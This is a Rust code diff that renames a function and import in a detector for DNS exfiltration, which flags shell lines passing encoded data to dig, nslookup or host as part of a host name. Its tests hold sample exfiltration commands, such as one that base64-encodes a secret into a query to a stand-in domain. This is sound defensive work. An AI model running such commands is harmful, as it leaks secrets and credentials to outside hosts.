@@ -2,7 +2,7 @@
 //!
 //! The line is in lower case.
 
-use super::parts::parts;
+use crate::rules::words::words;
 
 /// Commands that query a name server.
 const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
@@ -12,8 +12,8 @@ const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", 
 const MAX_PLACES: usize = 16;
 
 /// `dig $(cat x | base64).host.io`: data as the name of a host.
-pub(super) fn asked(line: &str) -> Option<usize> {
-    let at = parts!(RESOLVERS).first_word(line)?;
+pub(super) fn queried(line: &str) -> Option<usize> {
+    let at = words!(RESOLVERS).first_word(line)?;
     let rest = line.get(at..)?;
     rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
         let inner = rest.get(open + 2..)?;
@@ -21,7 +21,7 @@ pub(super) fn asked(line: &str) -> Option<usize> {
         let host = inner.get(close + 1..)?.trim_start_matches('"').strip_prefix('.')?;
         let carried = inner.get(..close)?;
         let named = host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '$');
-        (named && (carried.contains('$') || parts!(CARRIED).are_in(carried))).then_some(at)
+        (named && (carried.contains('$') || words!(CARRIED).are_in(carried))).then_some(at)
     })
 }
 
@@ -30,18 +30,18 @@ mod tests {
     use super::*;
 
     #[test]
-    fn data_asked_for_as_a_host_is_seen() {
+    fn data_in_a_host_name_is_found() {
         for line in [
             "dig @1.2.3.4 $(echo $secret | base64).x.dev",
             "nslookup \"$(whoami)\".x.dev",
             "host $(cat x | xxd -p).x.dev",
         ] {
-            assert!(asked(line).is_some(), "{line}");
+            assert!(queried(line).is_some(), "{line}");
         }
         for line in
             ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
         {
-            assert_eq!(asked(line), None, "{line}");
+            assert_eq!(queried(line), None, "{line}");
         }
     }
 }
